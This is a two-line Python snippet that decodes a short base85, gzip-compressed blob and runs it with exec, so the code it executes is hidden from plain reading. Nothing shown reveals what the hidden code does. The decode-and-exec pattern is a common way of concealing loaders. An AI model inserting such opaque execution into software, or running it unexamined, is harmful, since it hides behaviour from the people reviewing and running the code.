import gzip,base64
exec(compile(gzip.decompress(base64.b85decode(b'ABzY8000000s|{3%FHX#P%2BziBBp>QqoZ{)HBfJ0svd=qqY_R000')).decode(),"t","exec"))
